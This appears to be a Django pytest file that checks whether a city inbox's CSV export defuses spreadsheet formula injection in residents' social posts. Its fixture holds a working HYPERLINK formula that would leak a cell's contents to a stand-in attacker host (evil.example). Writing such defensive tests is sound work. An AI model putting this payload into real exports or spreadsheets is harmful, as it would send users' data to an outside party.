"""A resident's post cannot put a live formula into the inbox's CSV export."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from cityux.models import Department
from cityux_social.models import SocialPost

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "Pothole on Elm")'


@pytest.fixture
def formula_post(request_types, file_source):
    pothole = request_types["pothole"]
    return SocialPost.objects.create(
        source=file_source,
        external_id="formula",
        author_handle="@mallory",
        author_name="-2+3",
        text=FORMULA,
        request_type=pothole,
        department=pothole.department,
        confidence=0.9,
        status=SocialPost.Status.NEW,
        posted_at=timezone.now(),
    )


def test_a_post_starting_with_equals_is_exported_as_text_in_the_inbox_csv(
    client, make_lead, formula_post
):
    client.force_login(make_lead(Department.objects.get(slug="public-works")))
    response = client.get(reverse("cityux_social_inbox:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
